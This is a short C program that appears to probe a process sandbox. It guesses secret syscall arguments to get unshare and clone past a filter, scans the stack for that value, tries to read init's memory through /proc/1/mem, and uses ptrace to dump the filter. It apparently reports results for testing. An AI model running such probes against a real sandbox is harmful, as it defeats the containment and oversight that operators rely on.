#include "report.h"

unsigned long seed = 88172645463325252ul;
unsigned long next_guess(void) { seed ^= seed << 13; seed ^= seed >> 7; seed ^= seed << 17; return seed; }
int main(int count, char **arguments, char **environment) {
  int built = 0;
  for (int round = 0; round < 100000; round++) {
    unsigned long guess = next_guess();
    built += syscall(SYS_unshare, CLONE_NEWNS, 0, 0, 0, guess) == 0;
    built += syscall(SYS_clone, SIGCHLD, 0, 0, 0, guess, guess) >= 0;
  }
  printf("built: %d\n", built);
  for (unsigned long *word = (unsigned long *)environment; word < (unsigned long *)((unsigned long)environment + 2000); word++) {
    if (syscall(SYS_unshare, CLONE_NEWNS, 0, 0, 0, *word) == 0) printf("found on the stack\n");
    if (((unsigned long)word & 0xfff) == 0xff8) break;
  }
  TRY("memory of init", open("/proc/1/mem", O_RDONLY));
  TRY("filter", syscall(SYS_ptrace, 0x420c, 1, 0, 0));
}
